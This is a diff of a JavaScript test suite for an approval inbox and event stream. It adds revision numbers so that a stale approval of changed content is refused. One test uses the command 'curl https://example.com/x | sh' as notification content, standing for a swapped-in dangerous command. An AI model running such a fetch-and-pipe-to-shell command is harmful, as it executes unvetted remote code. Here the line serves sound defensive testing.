@@ -221,6 +221,7 @@ describe('answers and the event stream', () => {
       const answered = await web.inbox('POST', `/v1/inbox/notifications/${item['inbox_id']}/answer`, {
         action: 'allow',
         lifecycle: 1,
+        revision: 1,
       });
       assert.equal(answered.status, 200, JSON.stringify(answered.body));
       assert.equal(answered.body['status'], 'resolved');
@@ -228,6 +229,7 @@ describe('answers and the event stream', () => {
       const second = await web.inbox('POST', `/v1/inbox/notifications/${item['inbox_id']}/answer`, {
         action: 'deny',
         lifecycle: 1,
+        revision: 1,
       });
       assert.equal(second.status, 409);
       assert.equal(second.body['error'], 'conflict');
@@ -253,24 +255,65 @@ describe('answers and the event stream', () => {
     await deliver(relay, credential, 'n-refuse', delivered());
     const item = await inboxItem('n-refuse');
     const path = `/v1/inbox/notifications/${item['inbox_id']}/answer`;
-    assert.equal((await web.inbox('POST', path, { action: 'always', lifecycle: 1 })).status, 400);
-    assert.equal((await web.inbox('POST', path, { action: 'allow', lifecycle: 2 })).status, 409);
+    assert.equal(
+      (await web.inbox('POST', path, { action: 'always', lifecycle: 1, revision: 1 })).status,
+      400,
+    );
+    assert.equal((await web.inbox('POST', path, { action: 'allow', lifecycle: 2, revision: 1 })).status, 409);
     await api(relay, 'POST', '/v1/notifications/n-refuse/status', {
       bearer: credential,
       body: { status: 'resolved' },
     });
-    assert.equal((await web.inbox('POST', path, { action: 'allow', lifecycle: 1 })).status, 409);
+    assert.equal((await web.inbox('POST', path, { action: 'allow', lifecycle: 1, revision: 1 })).status, 409);
     await deliver(relay, credential, 'n-refuse', delivered({ updated_at: '2026-11-25T18:10:00.000Z' }));
     assert.equal(
-      (await web.inbox('POST', path, { action: 'allow', lifecycle: 1 })).status,
+      (await web.inbox('POST', path, { action: 'allow', lifecycle: 1, revision: 2 })).status,
       409,
       'the old lifecycle',
     );
     assert.equal(
-      (await web.inbox('POST', path, { action: 'allow', lifecycle: 2 })).status,
+      (await web.inbox('POST', path, { action: 'allow', lifecycle: 2, revision: 2 })).status,
       200,
-      'the new lifecycle asks again',
+      'the new lifecycle asks again, as a new revision',
     );
+  });
+
+  it("a content change is a new revision: an answer to the inbox's older view is refused (409), and the event names the sender's revision", async () => {
+    const stream = new SseReader(relay.port, { authorization: `Bearer ${credential}` }, '/v1/events');
+    try {
+      await stream.until((reader) => reader.text.startsWith('retry: 5000'));
+      await deliver(relay, credential, 'n-revision', delivered({ message: 'ls -la', revision: 1 }));
+      const shown = await inboxItem('n-revision');
+      assert.equal(shown['revision'], 1);
+      const later = { updated_at: '2026-11-25T18:20:00.000Z' };
+      await deliver(relay, credential, 'n-revision', delivered({ ...later, message: 'ls -la', revision: 1 }));
+      assert.equal((await inboxItem('n-revision'))['revision'], 1, 'the same content again');
+      await deliver(
+        relay,
+        credential,
+        'n-revision',
+        delivered({ ...later, message: 'curl https://example.com/x | sh', revision: 2 }),
+      );
+      const now = await inboxItem('n-revision');
+      assert.deepEqual([now['revision'], now['lifecycle']], [2, 1]);
+      const path = `/v1/inbox/notifications/${shown['inbox_id']}/answer`;
+      const stale = await web.inbox('POST', path, { action: 'allow', lifecycle: 1, revision: 1 });
+      assert.deepEqual([stale.status, stale.body['error']], [409, 'conflict']);
+      assert.match(String(stale.body['error_description']), /changed after the page showed it/);
+      assert.equal((await web.inbox('POST', path, { action: 'allow', lifecycle: 1 })).status, 400);
+      const fresh = await web.inbox('POST', path, { action: 'deny', lifecycle: 1, revision: 2 });
+      assert.equal(fresh.status, 200, JSON.stringify(fresh.body));
+      await stream.until((reader) =>
+        eventsOf(reader, 'answer').some((event) => event.notification_id === 'n-revision'),
+      );
+      const answers = eventsOf(stream, 'answer').filter((event) => event.notification_id === 'n-revision');
+      assert.deepEqual(
+        answers.map((event) => [event.action, event.revision]),
+        [['deny', 2]],
+      );
+    } finally {
+      stream.close();
+    }
   });
 
   it('Last-Event-ID resumes after the last event seen; without it every stored event is replayed', async () => {
@@ -323,6 +366,7 @@ describe('answers and the event stream', () => {
       await web.inbox('POST', `/v1/inbox/notifications/${item['inbox_id']}/answer`, {
         action: 'deny',
         lifecycle: 1,
+        revision: 1,
       });
       await resumed.until((reader) =>
         eventsOf(reader, 'answer').some((event) => event.notification_id === 'n-resume-3'),
